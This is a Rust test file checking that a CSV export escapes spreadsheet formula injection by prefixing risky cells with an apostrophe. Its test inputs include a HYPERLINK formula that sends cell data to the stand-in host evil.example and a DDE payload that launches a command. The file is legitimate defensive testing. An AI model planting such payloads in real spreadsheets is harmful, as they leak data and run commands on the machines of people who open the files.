//! No cell runs as a formula, wherever it comes from.

use super::{result, results};

/// Cells that Excel, LibreOffice or Sheets compute, or did once.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "=HYPERLINK(\"\"http://evil.example?x=\"\"&A1)",
    "=cmd|' /C calc'!A0",
    "+1",
    "+1 916 555 0100",
    "-1+1",
    "-",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    "\0=1",
    " =1",
    "\u{feff}\u{200b}=1",
    "＝1",
];

#[test]
fn a_formula_in_a_row_gets_an_apostrophe_and_nothing_else_changes() {
    for formula in FORMULAS {
        let row = result(format!("note,emergency\n\"{formula}\",no\n"));
        assert_eq!(row["note"], format!("'{}", formula.replace("\"\"", "\"")), "{formula:?}");
        assert_eq!(row["next_question"], "coverage");
    }
    for plain in ["1-2", "a=b", "1 (916) 555-0100", "'=1", "ana@example.org", " x", "#1", "\u{200f}שלום"] {
        assert_eq!(result(format!("note,emergency\n{plain},no\n"))["note"], plain);
    }
}

#[test]
fn a_formula_in_the_first_line_or_in_an_answer_gets_one_too() {
    let results = results("=1+1,emergency\nx,=2\n");
    assert_eq!(results.header[0], "'=1+1");
    assert_eq!(results.rows[0]["emergency"], "'=2");
    assert!(results.rows[0]["error"].starts_with("`emergency` has no choice `=2`."));
}

#[test]
fn a_formula_in_a_row_that_cannot_be_used_gets_one_too() {
    let rows = results(b"note,emergency\n=1,no,=2\n=\xff,no\n").rows;
    assert_eq!([rows[0]["note"].as_str(), rows[1]["note"].as_str()], ["'=1", "'=\u{fffd}"]);
}
